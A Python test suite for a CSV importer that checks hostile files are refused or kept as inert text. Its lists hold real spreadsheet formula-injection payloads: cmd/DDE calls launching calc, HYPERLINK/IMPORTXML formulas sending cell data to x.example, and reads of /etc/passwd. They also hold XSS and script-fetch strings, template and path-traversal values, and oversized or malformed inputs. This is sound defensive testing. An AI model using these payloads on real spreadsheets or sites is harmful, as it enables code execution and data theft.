"""CSV made to do harm is refused, or is nothing but text."""

import codecs

import pytest

from app.exchange.tables import TableRefused, examine, make_assessment, propose, read_table
from tests.unit.exchange.hostile.watching import harmless

GOOD = b"Option,A,B\nx,1,2\ny,3,4\n"


def table(*rows):
    return "\n".join(rows).encode()


def with_name(name):
    return ("Option,A\n" + f'"{name}",1\ny,2\n').encode()


FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK(""http://x.example/?""&A1,""y"")',
    '=IMPORTXML(CONCAT(""http://x.example"",A1),""//a"")',
    '=WEBSERVICE(""http://x.example"")',
    '=DDE(""cmd"";""/C calc"";""x"")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=INDIRECT(""file:///etc/passwd"")',
    "='file:///etc/passwd'#$passwd.A1",
    '=EXEC(""calc"")',
)
PLAIN = {f"formula {i}": with_name(text) for i, text in enumerate(FORMULAS)} | {
    "markup": with_name("<img src=x onerror=alert(1)>"),
    "script": with_name("<script>fetch('//x.example')</script>"),
    "entity": with_name("&xxe;"),
    "template": with_name("{{7*7}} ${7*7} %s {0}"),
    "path": with_name("../../etc/passwd"),
    "address": with_name("file:///etc/passwd"),
    "bidi override": with_name("safe\u202edesrever"),
    "zero width": with_name("a\u200bb"),
    "combining": with_name("e" + "\u0301" * 50),
    "emoji": with_name("\U0001f469\u200d\U0001f469\u200d\U0001f467"),
    "tab at the start": with_name("\t=1+1"),
    "byte order marks": codecs.BOM_UTF8 + GOOD,
    "separator named": b"sep=,\n" + GOOD,
}
REFUSED = {
    "empty": b"",
    "only a mark": codecs.BOM_UTF8,
    "only separators": b";;;;\n;;;;\n",
    "only line ends": b"\n" * 100_000,
    "zeros": b"\x00" * 1000,
    "zero in text": b"Option,A\nx\x00,1\n",
    "escape": b"Option,A\n\x1b[31mx,1\n",
    "bell": b"Option,A\nx\x07,1\n",
    "random": bytes(range(256)) * 40,
    "picture": b"\x89PNG\r\n\x1a\n" + b"\x00" * 100,
    "program": b"\x7fELF\x02\x01\x01" + b"\x00" * 100,
    "document": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj",
    "wide": b"Option," + b",".join(b"a%d" % i for i in range(2000)) + b"\nx" + b",1" * 2000,
    "long": b"Option,A\n" + b"".join(b"o%d,1\n" % i for i in range(5000)),
    "one row of millions": b"Option" + b",1" * 2_000_000,
    "far cell": b"Option,A\nx,1\n" + b"\n" * 600 + b"y,2\n",
    "larger than is read": b"Option,A\n" + b"x,1\n" * 2_500_000,
    "one cell of a gigabyte": b"Option,A\n" + b"x" * 1_000_000_000,
    "one cell of seven megabytes": b"Option,A\n" + b"x" * 7_000_000 + b",1\n",
    "quotation never closed": b'Option,A\n"x,1\ny,2\n',
    "quotation within": b'Option,A\n"x"y,1\nz,2\n',
    "many quotation marks": b'"' * 2_000_001,
    "utf-16 cut": codecs.BOM_UTF16_LE + b"O\x00p\x00t",
    "utf-32": codecs.BOM_UTF32_LE + "Option,A\nx,1".encode("utf-32-le"),
    "surrogates": codecs.BOM_UTF16_LE + b"\x00\xd8" * 20,
    "not a number": table("Option,A", "x,NaN", "y,1"),
    "infinite": table("Option,A", "x,inf", "y,1"),
    "beyond numbers": table("Option,A", "x,1e999", "y,1"),
    "hexadecimal": table("Option,A", "x,0x10", "y,1"),
    "underscores": table("Option,A", "x,1_000", "y,1"),
    "digits without end": table("Option,A", "x," + "9" * 5000, "y,1"),
    "formula as a score": table("Option,A", "x,=1+1", "y,1"),
    "call as a score": table("Option,A", "x,=cmd|' /C calc'!A0", "y,1"),
    "error": table("Option,A", "x,#DIV/0!", "y,1"),
    "date": table("Option,A", "x,2025-03-31", "y,1"),
    "truth": table("Option,A", "x,TRUE", "y,1"),
    "name without end": with_name("x" * 5000),
    "look-alike names": table("Option,A", "Talk,1", "\uff34alk,2"),
}


@pytest.fixture(scope="module", autouse=True)
def _ready():
    """Load what is loaded when the first file is read."""
    read(GOOD)


def read(data):
    grid = read_table(data)[0].grid
    found = examine(grid, propose(grid))
    if found.table is None:
        raise TableRefused("; ".join(map(str, found.problems)))
    return make_assessment(found.table, "T", "Me", "t.csv").assessment


@pytest.mark.parametrize("name", REFUSED)
def test_what_is_no_table_is_refused_with_a_sentence(name):
    with harmless(), pytest.raises(TableRefused, match=r"\w+ \w+"):
        read(REFUSED[name])


@pytest.mark.parametrize("name", PLAIN)
def test_what_would_run_elsewhere_is_text_here(name):
    with harmless():
        assessment = read(PLAIN[name])
    assert len(assessment.options) == 2
    assert "\u202e" not in assessment.options[0].name


def test_there_are_fifty():
    assert len(PLAIN) + len(REFUSED) >= 50
